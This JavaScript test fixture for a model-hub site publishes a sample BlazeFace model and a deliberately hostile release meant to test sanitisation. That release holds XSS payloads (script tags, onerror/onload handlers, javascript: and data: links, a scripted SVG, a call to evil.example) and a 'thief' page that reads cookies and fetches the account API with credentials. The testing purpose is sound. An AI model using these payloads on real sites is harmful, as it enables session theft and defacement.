// What the hub's tests and pictures share: a folder of releases to look at, its pages, and what the chain would say of a model.

import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { root } from './harness.mjs'

/** What hostile cards do. None of it may happen. */
export const hostileCard = `# Hostile

<script>document.title = 'owned'; fetch('https://evil.example/script')</script>
<img src=x onerror="document.title='owned'"> <svg onload="document.title='owned'"><script>document.title='owned'</script></svg>
<iframe srcdoc="<script>top.document.title='owned'</script>"></iframe><style>main{display:none}</style>

[a](javascript:document.title='owned') [b](data:text/html,<script>1</script>) [c](vbscript:1) <javascript:alert(1)>

![d](https://evil.example/pixel.png) ![e](data:image/svg+xml,<svg/onload=alert(1)>) ![f](evil.svg) ![g](/api/v1/account) ![here](dot.png)

${'> '.repeat(30)}deep

[ok](https://ok.example/page)
`

/** A page that tries to read what the hub's origin has. */
const thief = `<!doctype html><title>thief</title><script>
  const told = { cookie: (() => { try { return document.cookie } catch (e) { return String(e) } })() }
  fetch(new URLSearchParams(location.search).get('hub') + 'api/v1/account', { credentials: 'include' })
    .then((reply) => reply.text(), (error) => 'refused').then((text) => { told.account = text; document.title = JSON.stringify(told) })
</script>`

/** One pixel. */
const dot = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')

const card = `# BlazeFace, front camera

Finds faces near the camera. *Small*: 453 kB. See [the paper](https://arxiv.example/abs/1907.05047).

## How to use it

1. Scale a picture to 128 × 128.
2. Run the model.

\`\`\`js
const outputs = await model.run({ 'input:0': pixels })
\`\`\`

| output | shape | what |
|---|---|--:|
| scores | 896 × 1 | one for each anchor |
| boxes | 896 × 16 | box and six points |

> It was trained on people near the camera: not for crowds.
`

/** Publishes two versions of a model with a card, and a hostile release. Returns their names: { owner, face, hostile, releases }. */
export async function publishAll (lab) {
  const folder = await lab.blazeface()
  const authored = JSON.parse(await readFile(join(folder, 'model.json'), 'utf8'))
  await writeFile(join(folder, 'README.md'), card)
  const first = await lab.publish(folder)
  await writeFile(join(folder, 'README.md'), `${card}\nNow with notes.\n`)
  await writeFile(join(folder, 'NOTES.txt'), 'Notes.\n')
  await writeFile(join(folder, 'model.json'), JSON.stringify({ ...authored, version: '1.1.0' }))
  const second = await lab.publish(folder)

  const hostile = join(lab.folder, 'hostile')
  await mkdir(hostile, { recursive: true })
  const files = {
    'model.json': JSON.stringify({ name: 'hostile', version: '1.0.0', title: '<img src=x onerror=alert(1)>', summary: '"><script>alert(1)</script>', license: { spdx: 'MIT' }, created: '2026-01-02T15:04:05Z', runtime: { format: 'onnx', opset: 13 } }),
    'README.md': hostileCard,
    'index.html': thief,
    'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.setAttribute('data-owned', 'yes')</script></svg>`,
    'model.onnx': 'onnx',
    'dot.png': dot
  }
  for (const [name, content] of Object.entries(files)) await writeFile(join(hostile, name), content)
  return { owner: first.signer, face: authored.name, releases: { first, second, hostile: await lab.publish(hostile) } }
}

/** Addresses of the pages by name, each with what its main heading says. */
export const pagesOf = ({ owner, face }) => ({
  home: ['', 'AI models you can check'],
  models: ['models', 'Models'],
  found: ['models?q=blaze&task=face-detection', 'Results for “blaze”'],
  nothing: ['models?q=nosuchword', 'Results for “nosuchword”'],
  model: [`models/${owner}/${face}`, 'BlazeFace, front camera'],
  files: [`models/${owner}/${face}/files`, 'BlazeFace, front camera'],
  versions: [`models/${owner}/${face}/versions`, 'BlazeFace, front camera'],
  lineage: [`models/${owner}/${face}/lineage`, 'BlazeFace, front camera'],
  ownership: [`models/${owner}/${face}/ownership`, 'BlazeFace, front camera'],
  use: [`models/${owner}/${face}/use`, 'BlazeFace, front camera'],
  hostile: [`models/${owner}/hostile`, '<img src=x onerror=alert(1)>'],
  author: [`authors/${owner}`, ''],
  leaderboard: ['leaderboard', 'Leaderboard'],
  challenges: ['challenges', 'Challenges'],
  challenge: ['challenges/smiles', 'Smiles'],
  settings: ['settings', 'Settings'],
  admin: ['admin', 'Reports and denials'],
  publish: ['publish', 'Publish a model'],
  receipts: ['receipts', 'Receipts'],
  provider: ['provider', 'As a provider'],
  sessions: ['sessions', 'Sessions and spend'],
  trust: ['trust', 'What is proven, and what is not'],
  missing: ['no/such/page', 'There is nothing at this address']
})

/** Waits until a page has what it was going to show. */
export async function settled (page) {
  await page.locator('main h1').first().waitFor()
  await page.waitForFunction(() => {
    const place = document.querySelector('main')
    return place && !place.querySelector('[aria-busy=true]') && !place.querySelector('.animate-breathe') && [...place.querySelectorAll('dehug-model')].every((model) => model.hasAttribute('state'))
  })
}

/** A file with the challenge that golden replies show, for a relay to have. */
export async function challengesOf (lab) {
  const { id, title, text, task, dataset, metric, better, evaluator, begins, ends, places, prize } = await golden('challenge')
  const file = join(lab.folder, 'challenges.json')
  await writeFile(file, JSON.stringify([{ id, title, text, task, dataset, metric, better, evaluator, begins, ends, places, prize }]))
  return file
}

const golden = async (name) => JSON.parse(await readFile(join(root, 'relay/httpapi/testdata', `api-${name}.json`), 'utf8'))

/** Lets the page believe what golden replies say of a model on chain. */
export async function onChain (page, { owner, face }) {
  const { onChain, chain } = await golden('chain-model')
  const unavailable = await golden('chain-model-unavailable')
  onChain.versions[0].version = '1.1.0'
  await page.route(`**/api/v1/models/${owner}/${face}`, async (route) => {
    const reply = await route.fetch()
    const model = await reply.json()
    onChain.versions[0].manifest = model.manifest
    await route.fulfill({ json: { ...model, chain, onChain }, headers: { 'cache-control': 'no-store' } })
  })
  await page.route(`**/api/v1/models/${unavailable.owner}/${unavailable.name}`, (route) => route.fulfill({ json: unavailable }))
  await page.route(`**/api/v1/owners/${owner}`, async (route) => route.fulfill({ json: await golden('owner') }))
  await page.route('**/api/v1/stats', async (route) => route.fulfill({ json: await golden('stats') }))
  await page.route('**/api/v1/leaderboards/authors?*', async (route) => route.fulfill({ json: await golden('authors') }))
  await page.route('**/api/v1/models?*sort=trending*', async (route) => {
    const found = await (await route.fetch()).json()
    await route.fulfill({ json: { ...found, items: found.items.filter(({ name }) => name === face).map((item) => ({ ...item, score: 1.5 })) } })
  })
  const challenge = await golden('challenge')
  challenge.state = 'ended'
  challenge.winners = challenge.entries
  await page.route('**/api/v1/challenges', (route) => route.fulfill({ json: { items: [challenge] } }))
  await page.route('**/api/v1/challenges/smiles', (route) => route.fulfill({ json: challenge }))
}
